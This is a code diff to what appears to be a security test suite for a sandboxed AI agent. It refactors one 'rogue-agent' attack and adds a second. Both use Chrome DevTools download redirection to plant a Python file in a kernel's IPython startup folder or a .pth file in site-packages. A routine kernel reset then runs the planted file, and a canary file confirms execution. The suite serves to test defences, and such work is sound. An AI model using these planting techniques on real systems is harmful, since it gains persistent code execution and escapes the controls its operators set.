@@ -103,40 +103,19 @@ export const SIDE_EFFECT_ATTACKS: Attack[] = [
     stoppedBy: ['cdp-filter'],
     attacker: 'rogue-agent',
     async run (ctx) {
-      const home = ctx.d.internals.kernelHome
-      if (home === undefined) throw new Error('the kernel\'s HOME is unknown for this deployment')
-      const startup = join(home, '.ipython', 'profile_default', 'startup')
       const canary = ctx.oracle.canary('outside')
-      const name = `00-${nonce('startup')}.py`
-      const url = ctx.fixtures.respond('evil', { body: `open(${JSON.stringify(canary)}, 'w').write('ran')\n`, headers: { 'content-type': 'application/octet-stream', 'content-disposition': `attachment; filename="${name}"` } }, name)
-      assertLocal(url)
-      const before = new Set(await readdir(startup).catch(() => [] as string[]))
-      try {
-        const landed = await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
-          const set = { behavior: 'allow', downloadPath: startup }
-          const r = ch !== undefined
-            ? await attempt('Browser.setDownloadBehavior via the frontend', async () => await ch.send('Browser.setDownloadBehavior', set))
-            : await attempt('Browser.setDownloadBehavior', async () => await c.send('Browser.setDownloadBehavior', set))
-          notes.push(r.note)
-          const page = await openPage(c)
-          try {
-            const nav = await c.send<{ errorText?: string }>('Page.navigate', { url }, page.sessionId).catch((err: unknown) => ({ errorText: reason(err) }))
-            notes.push(`download: ${nav.errorText ?? 'navigated'}`)
-            const files = await filesAppear(startup, before, 8000, n => n.endsWith('.py'))
-            notes.push(files.length > 0 ? `${files.join(', ')} in the startup folder` : 'nothing in the startup folder')
-          } finally { await closePage(c, page) }
-          return { harm: false, evidence: notes.join('; ') }
-        }))
-        // the orchestrator's routine reset (behind the curtain), then the canary
-        const reset = await ctx.oracle.kernel('POST', '/kernel/reset').catch((err: unknown) => ({ status: 0, json: reason(err) }))
-        let ran = false
-        await waitUntil('the canary', async () => (ran = await ctx.oracle.exists(canary)), 20_000, 200).catch(() => {})
-        return { harm: ran, evidence: `${landed.evidence}; kernel reset → ${reset.status}; oracle: canary ${ran ? 'written by the kernel' : 'absent'}` }
-      } finally {
-        for (const n of await readdir(startup).catch(() => [] as string[])) if (!before.has(n)) await rm(join(startup, n), { force: true }).catch(() => {})
-        await rm(canary, { force: true }).catch(() => {})
-        await resetDownloads(ctx)
-      }
+      return await plantForKernel(ctx, ['.ipython', 'profile_default', 'startup'], `00-${nonce('startup')}.py`, `open(${JSON.stringify(canary)}, 'w').write('ran')\n`, canary)
+    },
+  },
+  {
+    id: 'download-into-user-site',
+    category: 'side-effects',
+    description: 'As download-into-kernel-startup, into the kernel user\'s site-packages (~/.local/lib/python3.11/site-packages) as a .pth file: Python runs its import line when the kernel restarts.',
+    stoppedBy: ['cdp-filter'],
+    attacker: 'rogue-agent',
+    async run (ctx) {
+      const canary = ctx.oracle.canary('outside')
+      return await plantForKernel(ctx, ['.local', 'lib', 'python3.11', 'site-packages'], `${nonce('site')}.pth`, `import os; open(${JSON.stringify(canary)}, 'w').write('ran')\n`, canary)
     },
   },
   {
@@ -392,6 +371,46 @@ export const SIDE_EFFECT_ATTACKS: Attack[] = [
     },
   },
 ]
+
+/**
+ * Make the browser download `body` as `name` into <kernel HOME>/<dirs…> (through the DevTools
+ * channel when a key press opens one, else by asking directly), have the orchestrator reset
+ * the kernel (behind the curtain), and see whether the kernel ran it (the canary).
+ */
+async function plantForKernel (ctx: AttackContext, dirs: readonly string[], name: string, body: string, canary: string): Promise<AttackOutcome> {
+  const home = ctx.d.internals.kernelHome
+  if (home === undefined) throw new Error('the kernel\'s HOME is unknown for this deployment')
+  const dir = join(home, ...dirs)
+  const url = ctx.fixtures.respond('evil', { body, headers: { 'content-type': 'application/octet-stream', 'content-disposition': `attachment; filename="${name}"` } }, name)
+  assertLocal(url)
+  const before = new Set(await readdir(dir).catch(() => [] as string[]))
+  try {
+    const landed = await asRogue(ctx, async c => await withFrontend(ctx, c, async (ch, notes) => {
+      const set = { behavior: 'allow', downloadPath: dir }
+      const r = ch !== undefined
+        ? await attempt('Browser.setDownloadBehavior via the frontend', async () => await ch.send('Browser.setDownloadBehavior', set))
+        : await attempt('Browser.setDownloadBehavior', async () => await c.send('Browser.setDownloadBehavior', set))
+      notes.push(r.note)
+      const page = await openPage(c)
+      try {
+        const nav = await c.send<{ errorText?: string }>('Page.navigate', { url }, page.sessionId).catch((err: unknown) => ({ errorText: reason(err) }))
+        notes.push(`download: ${nav.errorText ?? 'navigated'}`)
+        const files = await filesAppear(dir, before, 8000, n => n === name)
+        notes.push(files.length > 0 ? `${files.join(', ')} in ~/${dirs.join('/')}` : `nothing in ~/${dirs.join('/')}`)
+      } finally { await closePage(c, page) }
+      return { harm: false, evidence: notes.join('; ') }
+    }))
+    // the orchestrator's routine reset (behind the curtain), then the canary
+    const reset = await ctx.oracle.kernel('POST', '/kernel/reset').catch((err: unknown) => ({ status: 0, json: reason(err) }))
+    let ran = false
+    await waitUntil('the canary', async () => (ran = await ctx.oracle.exists(canary)), 20_000, 200).catch(() => {})
+    return { harm: ran, evidence: `${landed.evidence}; kernel reset → ${reset.status}; oracle: canary ${ran ? 'written by the kernel' : 'absent'}` }
+  } finally {
+    for (const n of await readdir(dir).catch(() => [] as string[])) if (!before.has(n)) await rm(join(dir, n), { force: true }).catch(() => {})
+    await rm(canary, { force: true }).catch(() => {})
+    await resetDownloads(ctx)
+  }
+}
 
 /** Text of a page including every shadow root, plus href/title attributes (WebUI pages are web components). */
 const DEEP_TEXT = `(() => { const out = []; const walk = n => { if (!n) return;
